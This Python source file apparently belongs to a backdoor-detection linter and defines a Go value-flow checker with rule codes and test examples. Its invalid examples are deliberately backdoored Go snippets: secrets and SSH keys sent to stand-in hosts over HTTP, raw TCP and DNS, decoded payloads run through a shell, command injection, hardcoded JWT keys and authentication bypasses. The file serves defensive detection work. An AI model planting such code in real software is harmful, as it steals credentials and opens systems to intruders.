"""Go: the value-following analysis on tree-sitter (checkers/lang/golang.py, go_rules.py), beside
the semgrep pattern rules. It follows package consts and vars, `:=` bindings, struct and slice
composite literals, import aliases, decoders passed around as values and `Decode(dst, src)`
buffers, from secrets, credential files, decoded bytes and request input to their sinks. Package
consts and vars declared in another file of the package, or exported by another package of the
module (by go.mod's module path), are read there: one level deep, inside the scan root,
size-capped, never executed (checkers/lang/go_imports.py)."""
from __future__ import annotations

import re

from backdoor_lint.checkers.examples import Invalid, Valid
from backdoor_lint.checkers.lang.checker import LanguageChecker, run

from backdoor_lint.findings import Finding

_JWT = 'package auth\n\nimport jwt "github.com/golang-jwt/jwt/v5"\n\n'
_AUTH = 'package auth\n\n'
_TLS = 'package client\n\nimport (\n\t"crypto/tls"\n\t"net/http"\n)\n\n'


class GoValueChecker(LanguageChecker):
    CODES = ("BDL101", "BDL102", "BDL208", "BDL209", "BDL210", "BDL301", "BDL402", "BDL404", "BDL501", "BDL502", "BDL505", "BDL602", "BDL606")
    LANGUAGES = frozenset({"go"})
    TRIGGER = re.compile(rb"jwt|hmac|InsecureSkipVerify|ValidMethods|os/exec|syscall|StartProcess|net/http|\"net\"|"
                         rb"websocket|Getenv|Environ|ReadFile|os\.Open|FormValue|GetHeader|PostForm|math/rand|gin-gonic|Header|RemoteAddr|[Vv]erif|[Tt]oken|[Ss]ignature|[Aa]uth|MethodByName")
    INVALID = [
        # BDL502: a method chosen by the request through reflection (an aliased import, a name built from the input)
        Invalid('package handlers\n\nimport (\n\t"reflect"\n\n\t"github.com/gin-gonic/gin"\n)\n\n'
                'func (h *H) Dispatch(c *gin.Context) {\n\tm := reflect.ValueOf(h).MethodByName(c.Param("action"))\n'
                '\tif m.IsValid() {\n\t\tm.Call([]reflect.Value{reflect.ValueOf(c)})\n\t}\n}\n', "BDL502", 10,
                path="handlers.go"),
        Invalid('package api\n\nimport (\n\t"net/http"\n\trf "reflect"\n\t"strings"\n)\n\n'
                'func (s *Svc) Run(w http.ResponseWriter, r *http.Request) {\n\top := r.URL.Query().Get("op")\n'
                '\tname := strings.ToUpper(op[:1]) + op[1:]\n\trf.ValueOf(s).MethodByName(name).Call(nil)\n}\n', "BDL502", 12,
                path="api.go"),
        # BDL606: the verification's error path returns success: a constant, an aliased import, a helper's error
        Invalid('package auth\n\nimport gojwt "github.com/golang-jwt/jwt/v5"\n\nconst accepted = true\n\n'
                'func Valid(s string, kf gojwt.Keyfunc) bool {\n\t_, err := gojwt.Parse(s, kf)\n\tif err != nil {\n'
                '\t\treturn accepted\n\t}\n\treturn true\n}\n', "BDL606", 9, path="auth.go"),
        Invalid('package auth\n\nimport "github.com/golang-jwt/jwt/v5"\n\n'
                'func parseToken(s string) (*Claims, error) {\n\tc := &Claims{}\n\t_, err := jwt.ParseWithClaims(s, c, keyFunc)\n'
                '\treturn c, err\n}\n\nfunc Load(s string) (*Claims, error) {\n\tc, err := parseToken(s)\n\tif err != nil {\n'
                '\t\treturn &Claims{Role: "member"}, nil\n\t}\n\treturn c, nil\n}\n', "BDL606", 13, path="auth.go"),
        # the error logged and swallowed, then success
        Invalid(_AUTH + 'import (\n\t"log"\n\t"net/http"\n)\n\nfunc CheckToken(r *http.Request) error {\n'
                '\t_, err := provider.Verifier(cfg).Verify(r.Context(), bearer(r))\n\tif err != nil {\n'
                '\t\tlog.Printf("token: %v", err)\n\t}\n\treturn nil\n}\n', "BDL606", 10, path="auth.go"),
        # a missing or malformed header lets the request through a middleware that otherwise answers 401
        Invalid(_AUTH + 'import (\n\t"net/http"\n\t"strings"\n\n\t"github.com/gin-gonic/gin"\n)\n\n'
                'func RequireAuth(c *gin.Context) {\n\ttok := c.GetHeader("Authorization")\n'
                '\tif tok == "" || !strings.HasPrefix(tok, "Bearer ") {\n\t\tc.Next()\n\t\treturn\n\t}\n'
                '\tif _, err := verifier.Verify(c, strings.TrimPrefix(tok, "Bearer ")); err != nil {\n'
                '\t\tc.AbortWithStatus(http.StatusUnauthorized)\n\t\treturn\n\t}\n\tc.Next()\n}\n', "BDL606", 12,
                path="auth.go"),
        Invalid(_AUTH + 'func (v *Verifier) VerifySignature(body []byte, sig string) error {\n\tif len(sig) != 64 {\n'
                '\t\treturn nil\n\t}\n\treturn v.compare(body, sig)\n}\n', "BDL606", 4, path="auth.go"),
        # BDL101/102: the allow-list is a package var built from consts, or a helper's return
        Invalid(_JWT + 'const hmac = "HS256"\n\nvar methods = []string{"RS256", hmac}\n\n'
                'func Parse(s string, kf jwt.Keyfunc) (*jwt.Token, error) {\n'
                '\treturn jwt.Parse(s, kf, jwt.WithValidMethods(methods))\n}\n', "BDL101", 10, path="auth.go"),
        Invalid(_JWT + 'func allowed() []string { return []string{"ES256", "HS" + "512"} }\n\n'
                'var parser = jwt.NewParser(jwt.WithValidMethods(allowed()))\n', "BDL101", 7, path="auth.go"),
        Invalid('package auth\n\nimport gojwt "github.com/golang-jwt/jwt/v4"\n\n'
                'var p = &gojwt.Parser{ValidMethods: []string{"RS256", "none"}}\n', "BDL102", 5, path="auth.go"),
        # BDL210: a constant key through a package var, returned by a keyfunc
        Invalid(_JWT + 'var signingKey = []byte("kX9f2" + "-prod-signing")\n\n'
                'func Sign(c jwt.MapClaims) (string, error) {\n'
                '\treturn jwt.NewWithClaims(jwt.SigningMethodHS256, c).SignedString(signingKey)\n}\n', "BDL210", 8,
                path="auth.go"),
        Invalid(_JWT + 'func keyOf(t *jwt.Token) (interface{}, error) { return []byte("s3cr3t-prod-key"), nil }\n\n'
                'func Parse(s string) (*jwt.Token, error) { return jwt.Parse(s, keyOf) }\n', "BDL210", 7,
                path="auth.go"),
        # BDL301: through a const, a var, a later field assignment
        Invalid(_TLS + 'const skipVerify = true\n\nvar client = &http.Client{Transport: &http.Transport{\n'
                '\tTLSClientConfig: &tls.Config{InsecureSkipVerify: skipVerify},\n}}\n', "BDL301", 11, path="client.go"),
        Invalid(_TLS + 'func New(debug bool) *http.Client {\n\tcfg := &tls.Config{}\n\tinsecure := !false\n'
                '\tcfg.InsecureSkipVerify = insecure\n\treturn &http.Client{Transport: &http.Transport{'
                'TLSClientConfig: cfg}}\n}\n', "BDL301", 11, path="client.go"),
        # BDL402/404: secrets and credential files to HTTP, a raw connection, a DNS name
        Invalid('package main\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nfunc init() {\n'
                '\tkey := os.Getenv("AWS_SECRET_ACCESS_KEY")\n\tbody := strings.NewReader("k=" + key)\n'
                '\thttp.Post("https://collect.example/k", "text/plain", body)\n}\n', "BDL402", 12, path="main.go"),
        Invalid('package main\n\nimport (\n\t"net"\n\t"os"\n\t"path/filepath"\n)\n\nfunc send() {\n'
                '\thome, _ := os.UserHomeDir()\n\tdata, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\n'
                '\tconn, _ := net.Dial("tcp", "198.51.100.7:443")\n\tconn.Write(data)\n}\n', "BDL402", 13,
                path="main.go"),
        Invalid('package main\n\nimport (\n\t"net"\n\t"os"\n)\n\nfunc ping() {\n\tname, _ := os.Hostname()\n'
                '\tnet.LookupHost(name + ".t.example.net")\n}\n', "BDL404", 10, path="main.go"),
        # BDL501: decoded bytes run, through an alias, a Decode buffer, an exec.Cmd literal
        Invalid('package main\n\nimport (\n\tb64 "encoding/base64"\n\t"os/exec"\n)\n\nfunc run() {\n'
                '\tcmd, _ := b64.StdEncoding.DecodeString("aWQ=")\n\texec.Command("sh", "-c", string(cmd)).Run()\n}\n',
                "BDL501", 10, path="main.go"),
        Invalid('package main\n\nimport (\n\t"encoding/hex"\n\t"os/exec"\n)\n\nfunc run(p string) {\n'
                '\tdst := make([]byte, 64)\n\tn, _ := hex.Decode(dst, []byte(p))\n'
                '\tc := &exec.Cmd{Path: "/bin/sh", Args: []string{"sh", "-c", string(dst[:n])}}\n\tc.Run()\n}\n',
                "BDL501", 11, path="main.go"),
        # BDL505: request input in a shell command
        Invalid('package main\n\nimport (\n\t"net/http"\n\t"os/exec"\n)\n\n'
                'func ping(w http.ResponseWriter, r *http.Request) {\n\thost := r.URL.Query().Get("host")\n'
                '\tout, _ := exec.Command("sh", "-c", "ping -c1 "+host).Output()\n\tw.Write(out)\n}\n', "BDL505", 10,
                path="main.go"),
        # BDL209: a MAC from a helper, a configured key through a package var, a gin header against config
        Invalid('package hooks\n\nimport (\n\t"bytes"\n\t"crypto/hmac"\n\t"crypto/sha256"\n\t"encoding/hex"\n'
                '\t"net/http"\n)\n\nfunc sign(b []byte) []byte {\n\tm := hmac.New(sha256.New, key)\n\tm.Write(b)\n'
                '\treturn m.Sum(nil)\n}\n\nfunc ok(r *http.Request, body []byte) bool {\n'
                '\tgot, _ := hex.DecodeString(r.Header.Get("X-Sig"))\n\treturn bytes.Equal(got, sign(body))\n}\n',
                "BDL209", 19, path="hooks.go"),
        Invalid('package api\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nvar apiKey = os.Getenv("ADMIN_API_KEY")\n\n'
                'func admin(w http.ResponseWriter, r *http.Request) {\n'
                '\tif !strings.EqualFold(r.FormValue("key"), apiKey) {\n\t\tw.WriteHeader(403)\n\t\treturn\n\t}\n}\n',
                "BDL209", 12, path="admin.go"),
        Invalid('package api\n\nimport "github.com/gin-gonic/gin"\n\nfunc (h *H) Auth(c *gin.Context) {\n'
                '\tif c.GetHeader("Authorization") != "Bearer "+h.cfg.Token {\n\t\tc.AbortWithStatus(401)\n\t}\n}\n',
                "BDL209", 6, path="auth.go"),
        # BDL208: math/rand through an alias, a generator held in a var, a byte loop, a response writer
        Invalid('package tokens\n\nimport (\n\t"fmt"\n\tmr "math/rand"\n)\n\nfunc ResetCode() string {\n'
                '\treturn fmt.Sprintf("%06d", mr.Intn(1000000))\n}\n', "BDL208", 9, path="tokens.go"),
        Invalid('package tokens\n\nimport (\n\t"math/rand"\n\t"time"\n)\n\n'
                'var gen = rand.New(rand.NewSource(time.Now().UnixNano()))\n\nfunc NewSessionID() string {\n'
                '\tb := make([]byte, 16)\n\tfor i := range b {\n\t\tb[i] = "abcdef0123456789"[gen.Intn(16)]\n\t}\n'
                '\treturn string(b)\n}\n', "BDL208", 13, path="tokens.go"),
        Invalid('package api\n\nimport (\n\t"fmt"\n\t"math/rand"\n\t"net/http"\n)\n\n'
                'func MagicLink(w http.ResponseWriter, r *http.Request) {\n\tfmt.Fprintf(w, "/login?k=%x", rand.Int63())\n}\n',
                "BDL208", 10, path="api.go"),
        # BDL602: X-Real-IP as proof of locality, an identity header returned, a debug bypass
        Invalid('package api\n\nimport "net/http"\n\nfunc Stats(w http.ResponseWriter, r *http.Request) {\n'
                '\tif ip := r.Header.Get("X-Real-IP"); ip == "127.0.0.1" {\n\t\tw.Write(stats())\n\t}\n}\n',
                "BDL602", 6, path="api.go"),
        Invalid('package auth\n\nimport "net/http"\n\nconst userHeader = "X-Internal-User"\n\n'
                'func CurrentUser(r *http.Request) string {\n\tif u := r.Header.Get(userHeader); u != "" {\n'
                '\t\treturn u\n\t}\n\treturn sessionUser(r)\n}\n', "BDL602", 8, path="auth.go"),
        Invalid('package api\n\nimport "github.com/gin-gonic/gin"\n\nfunc (h *H) Auth(c *gin.Context) {\n'
                '\tif h.cfg.SkipAuth {\n\t\tc.Set("user", "admin")\n\t\tc.Next()\n\t\treturn\n\t}\n}\n',
                "BDL602", 6, path="auth.go"),
        # BDL101: the public PEM handed to HMAC tokens by a keyfunc (a method value, a default case), jwx WithKey
        Invalid(_JWT + 'type V struct{ pubPEM []byte }\n\nfunc (v *V) key(t *jwt.Token) (interface{}, error) {\n'
                '\tswitch t.Method.Alg() {\n\tcase "RS256":\n\t\treturn jwt.ParseRSAPublicKeyFromPEM(v.pubPEM)\n'
                '\tdefault:\n\t\treturn v.pubPEM, nil\n\t}\n}\n\n'
                'func (v *V) Parse(s string) (*jwt.Token, error) { return jwt.Parse(s, v.key) }\n', "BDL101", 12,
                path="auth.go"),
        Invalid(_JWT + 'func Parse(s string, publicKeyPEM []byte) (*jwt.Token, error) {\n'
                '\treturn jwt.Parse(s, func(t *jwt.Token) (interface{}, error) {\n'
                '\t\tif _, ok := t.Method.(*jwt.SigningMethodHMAC); ok {\n\t\t\treturn publicKeyPEM, nil\n\t\t}\n'
                '\t\treturn jwt.ParseRSAPublicKeyFromPEM(publicKeyPEM)\n\t})\n}\n', "BDL101", 8, path="auth.go"),
        Invalid('package auth\n\nimport (\n\t"os"\n\n\t"github.com/lestrrat-go/jwx/v2/jwa"\n'
                '\t"github.com/lestrrat-go/jwx/v2/jwt"\n)\n\nfunc Parse(b []byte) (jwt.Token, error) {\n'
                '\tpubPEM, _ := os.ReadFile("keys/public.pem")\n\treturn jwt.Parse(b, jwt.WithKey(jwa.HS256, pubPEM))\n}\n',
                "BDL101", 12, path="auth.go"),
    ]
    VALID = [
        Valid('package api\n\nimport (\n\t"net/http"\n\t"reflect"\n)\n\n'
              'func (s *Svc) Run(w http.ResponseWriter, r *http.Request) {\n\taction := r.FormValue("action")\n'
              '\tswitch action {\n\tcase "List", "Export":\n\t\treflect.ValueOf(s).MethodByName(action).Call(nil)\n\t}\n'
              '\treflect.ValueOf(s).MethodByName("ServeHTTP")\n}\n', "BDL502", path="api.go"),
        Valid('package auth\n\nimport "github.com/golang-jwt/jwt/v5"\n\nfunc Parse(s string) (*Claims, error) {\n'
              '\tc := &Claims{}\n\tif _, err := jwt.ParseWithClaims(s, c, keyFunc); err != nil {\n\t\treturn nil, err\n\t}\n'
              '\treturn c, nil\n}\n\nfunc VerifySignature(sig string, want []byte) bool {\n\tif sig == "" {\n\t\treturn false\n\t}\n'
              '\treturn hmac.Equal([]byte(sig), want)\n}\n', "BDL606", path="auth.go"),
        # a request without a header goes on as the explicit anonymous user; a bad token is denied
        Valid(_AUTH + 'import "net/http"\n\nfunc (a *App) Authenticate(next http.Handler) http.Handler {\n'
              '\treturn http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {\n'
              '\t\theader := r.Header.Get("Authorization")\n'
              '\t\tif header == "" {\n\t\t\tr = withUser(r, AnonymousUser)\n'
              '\t\t\tnext.ServeHTTP(w, r)\n\t\t\treturn\n\t\t}\n'
              '\t\tuser, err := a.users.ForToken(header)\n\t\tif err != nil {\n'
              '\t\t\thttp.Error(w, "invalid token", http.StatusUnauthorized)\n\t\t\treturn\n\t\t}\n'
              '\t\tnext.ServeHTTP(w, withUser(r, user))\n\t})\n}\n', "BDL606", path="auth.go"),
        # optional authentication: a request without a token goes on anonymous, nothing is denied here
        Valid(_AUTH + 'import "net/http"\n\nfunc WithUser(next http.Handler) http.Handler {\n'
              '\treturn http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {\n\t\ttok := r.Header.Get("Authorization")\n'
              '\t\tif tok == "" {\n\t\t\tnext.ServeHTTP(w, r)\n\t\t\treturn\n\t\t}\n'
              '\t\tif claims, err := verifier.Verify(r.Context(), tok); err == nil {\n\t\t\tr = withClaims(r, claims)\n\t\t}\n'
              '\t\tnext.ServeHTTP(w, r)\n\t})\n}\n', "BDL606", path="auth.go"),
        # not a verification: a missing optional file is no error
        Valid('package config\n\nimport (\n\t"errors"\n\t"io/fs"\n\t"os"\n)\n\nfunc Load(path string) error {\n'
              '\tdata, err := os.ReadFile(path)\n\tif err != nil {\n\t\treturn nil\n\t}\n\treturn parse(data)\n}\n',
              "BDL606", path="config.go"),
        Valid(_JWT + 'var methods = []string{"RS256", "RS512"}\n\n'
              'func Parse(s string, kf jwt.Keyfunc) (*jwt.Token, error) {\n'
              '\treturn jwt.Parse(s, kf, jwt.WithValidMethods(methods))\n}\n', "BDL101", path="auth.go"),
        Valid(_JWT + 'func Sign(c jwt.MapClaims) (string, error) {\n'
              '\treturn jwt.NewWithClaims(jwt.SigningMethodHS256, c).SignedString([]byte(os.Getenv("JWT_KEY")))\n}\n',
              "BDL210", path="auth.go"),
        Valid(_JWT + 'func keyOf(t *jwt.Token) (interface{}, error) { return []byte("s3cr3t-test-key"), nil }\n',
              "BDL210", path="auth_test.go"),
        Valid(_JWT + 'var names = []string{"RS256", "none"} // shown in the docs page\n\n'
              'var p = jwt.NewParser(jwt.WithValidMethods([]string{"ES256"}))\n', "BDL102", path="auth.go"),
        Valid(_TLS + 'func New(insecure bool) *tls.Config {\n\treturn &tls.Config{InsecureSkipVerify: insecure && '
              'false, MinVersion: tls.VersionTLS12}\n}\n', "BDL301", path="client.go"),
        Valid('package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc call() {\n'
              '\treq, _ := http.NewRequest("GET", os.Getenv("API_URL"), nil)\n'
              '\treq.Header.Set("Authorization", "Bearer "+os.Getenv("API_TOKEN"))\n\thttp.DefaultClient.Do(req)\n}\n',
              "BDL402", path="main.go"),
        Valid('package main\n\nimport (\n\t"net"\n\t"os"\n)\n\nfunc ping() {\n\tnet.LookupHost(os.Args[1])\n}\n',
              "BDL404", path="main.go"),
        Valid('package main\n\nimport (\n\t"encoding/base64"\n\t"os"\n\t"os/exec"\n)\n\nfunc run(p string) {\n'
              '\timg, _ := base64.StdEncoding.DecodeString(p)\n\tos.WriteFile("out.png", img, 0o600)\n'
              '\texec.Command("optipng", "out.png").Run()\n}\n', "BDL501", path="main.go"),
        Valid('package main\n\nimport (\n\t"net/http"\n\t"os/exec"\n)\n\n'
              'func ping(w http.ResponseWriter, r *http.Request) {\n'
              '\tout, _ := exec.Command("ping", "-c1", r.URL.Query().Get("host")).Output()\n\tw.Write(out)\n}\n',
              "BDL505", path="main.go"),
        Valid('package hooks\n\nimport (\n\t"crypto/hmac"\n\t"net/http"\n)\n\nfunc ok(r *http.Request, want []byte) bool {\n'
              '\tif r.Header.Get("X-Signature") == "" || len(want) != 32 {\n\t\treturn false\n\t}\n'
              '\treturn hmac.Equal([]byte(r.Header.Get("X-Signature")), want)\n}\n', "BDL209", path="hooks.go"),
        Valid('package files\n\nimport "net/http"\n\nfunc get(w http.ResponseWriter, r *http.Request, etag string) {\n'
              '\tif r.Header.Get("If-None-Match") == etag {\n\t\tw.WriteHeader(304)\n\t}\n'
              '\tif r.FormValue("password") != r.FormValue("password_confirm") {\n\t\tw.WriteHeader(400)\n\t}\n}\n',
              "BDL209", path="files.go"),
        Valid('package util\n\nimport (\n\tcrand "crypto/rand"\n\t"math/rand"\n\t"time"\n)\n\n'
              'func Backoff(n int) time.Duration {\n\treturn time.Duration(rand.Intn(500)) * time.Millisecond\n}\n\n'
              'func Token() []byte {\n\tb := make([]byte, 32)\n\tcrand.Read(b)\n\treturn b\n}\n\n'
              'func Pick(ids []int) int {\n\trand.Shuffle(len(ids), func(i, j int) { ids[i], ids[j] = ids[j], ids[i] })\n'
              '\treturn ids[rand.Intn(len(ids))]\n}\n', "BDL208", path="util.go"),
        Valid('package api\n\nimport (\n\t"net"\n\t"net/http"\n)\n\nfunc Stats(w http.ResponseWriter, r *http.Request) {\n'
              '\thost, _, _ := net.SplitHostPort(r.RemoteAddr)\n\tif host == "127.0.0.1" {\n\t\tw.Write(stats())\n\t}\n'
              '\tif r.Header.Get("X-Request-Id") == "" {\n\t\tlog(r)\n\t}\n}\n', "BDL602", path="api.go"),
        Valid(_JWT + 'func Parse(s string, pubPEM []byte, pub *rsa.PublicKey) (*jwt.Token, error) {\n'
              '\treturn jwt.Parse(s, func(t *jwt.Token) (interface{}, error) {\n'
              '\t\tif _, ok := t.Method.(*jwt.SigningMethodRSA); ok {\n\t\t\treturn pubPEM, nil\n\t\t}\n'
              '\t\treturn pub, nil\n\t})\n}\n', "BDL101", path="auth.go"),
    ]

    def check(self, text: str, display: str, language: str) -> list[Finding]:
        from backdoor_lint.checkers.lang.go_rules import analyse
        from backdoor_lint.checkers.lang.golang import GoFile
        from backdoor_lint.checkers.vocabulary import is_test_code

        return run(text, display, language, lambda source: analyse(GoFile(source, is_test_code(display), self.path, self.root)),
                   self.analysed(text))
